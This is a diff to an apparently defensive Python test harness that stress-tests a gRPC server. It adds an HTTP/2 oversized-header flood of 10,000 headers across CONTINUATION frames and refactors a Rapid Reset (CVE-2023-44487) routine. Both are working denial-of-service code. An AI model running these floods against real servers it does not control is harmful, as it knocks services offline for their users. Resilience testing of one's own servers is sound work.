@@ -10,6 +10,7 @@ holds them for `seconds`, then closes everything:
 `token=None` sends no authorization header; any other string is sent as the bearer token.
 `hold_idle` opens connections that start no call at all: half send nothing, half only the HTTP/2 preface.
 `rapid_reset` opens calls and resets them at once (CVE-2023-44487), as fast as the server reads them.
+`oversized_headers` sends calls whose header block (10,000 small headers) is past gRPC's metadata limit.
 """
 
 from __future__ import annotations
@@ -21,7 +22,7 @@ import time
 from dataclasses import dataclass
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
 END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
 FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE
 
@@ -227,14 +228,10 @@ async def rapid_reset(address: str, path: str, connections: int, seconds: float,
     end = asyncio.get_running_loop().time() + seconds
     sent = 0
 
-    async def drain_replies(reader: asyncio.StreamReader) -> None:
-        while await reader.read(65536):
-            pass
-
     async def one() -> None:
         nonlocal sent
         reader, writer = await asyncio.open_connection(host, int(port))
-        replies = asyncio.ensure_future(drain_replies(reader))
+        replies = asyncio.ensure_future(_drain(reader))
         writer.write(PREFACE + frame(SETTINGS, 0, 0))
         stream = 1
         try:
@@ -255,6 +252,45 @@ async def rapid_reset(address: str, path: str, connections: int, seconds: float,
 
     await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
     return sent
+
+
+async def oversized_headers(address: str, path: str, connections: int, seconds: float, headers: int = 10_000) -> int:
+    """On each of `connections` connections, call after call whose header block holds `headers` small
+    headers (HEADERS and CONTINUATION frames of 16 KiB), back to back for `seconds`; returns the calls sent."""
+    host, port = address.rsplit(":", 1)
+    block = header_block([(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
+                          ("content-type", "application/grpc")] + [(f"x-h{i}", "v") for i in range(headers)])
+    pieces = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]
+    end = asyncio.get_running_loop().time() + seconds
+    sent = 0
+
+    async def one() -> None:
+        nonlocal sent
+        reader, writer = await asyncio.open_connection(host, int(port))
+        replies = asyncio.ensure_future(_drain(reader))
+        writer.write(PREFACE + frame(SETTINGS, 0, 0))
+        stream = 1
+        try:
+            while asyncio.get_running_loop().time() < end:
+                call = bytearray(frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0]))
+                for i, piece in enumerate(pieces[1:], 2):
+                    call += frame(CONTINUATION, END_HEADERS if i == len(pieces) else 0, stream, piece)
+                writer.write(bytes(call))
+                await writer.drain()
+                sent, stream = sent + 1, stream + 2
+        except (ConnectionError, OSError):
+            pass
+        finally:
+            replies.cancel()
+            writer.close()
+
+    await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
+    return sent
+
+
+async def _drain(reader: asyncio.StreamReader) -> None:
+    while await reader.read(65536):
+        pass
 
 
 class PeakRss:
